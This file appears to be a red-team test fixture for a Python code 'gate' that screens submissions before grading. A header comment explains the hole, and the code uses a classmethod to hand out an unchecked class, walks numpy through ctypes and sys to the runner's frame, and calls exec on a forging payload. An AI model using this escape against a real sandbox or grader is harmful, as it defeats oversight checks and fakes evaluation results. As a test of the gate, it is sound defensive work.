# ruff: noqa: F821  (a part: the test puts the stub and `_FORGE = "..."` before it)
# rt14 (hostile, escape): an own class handed on as a value by a classmethod the gate cannot see. In a class body
# `grab = classmethod(_grab)` binds a classmethod of a module-level function whose first parameter is an ordinary
# one: the gate neither takes it as a method (no `def` in the class) nor restricts `_grab(c)`'s `return c`, so
# `_K.grab()` is the class `_K` as a value the gate cannot type. On it, a method named like an `ATTRIBUTES`
# entry (`values`, `keys`, `items`, `get`, `pop`) is a listed attribute, and called unbound it runs with any
# object as the `self` the gate trusts: there `self.ctypes` is "a public name the object does not have natively"
# and `self._ctypes`, `self._sys`, `self._getframe` are names the family assigns. So an array walks numpy ->
# ctypes -> sys -> a frame, and the forger of test_gate_grading.py runs with the runner's frame.
import numpy as np


def _grab(c):
    return c


class _K:
    grab = classmethod(_grab)  # hole

    def __init__(self):
        self._ctypes = None
        self._sys = None
        self._getframe = None
        self.modules = None
        self.exec = None

    def values(self):
        return self.ctypes

    def keys(self):
        return self._ctypes

    def items(self):
        return self._sys

    def get(self):
        return self._getframe

    def pop(self):
        return self.modules

    def index(self):
        return self.exec


_C = _K.grab()
_sys = _C.items(_C.keys(_C.values(np.zeros(1))))
_C.index(_C.pop(_sys)["builtins"])(_FORGE, {"_frame": _C.get(_sys)()})
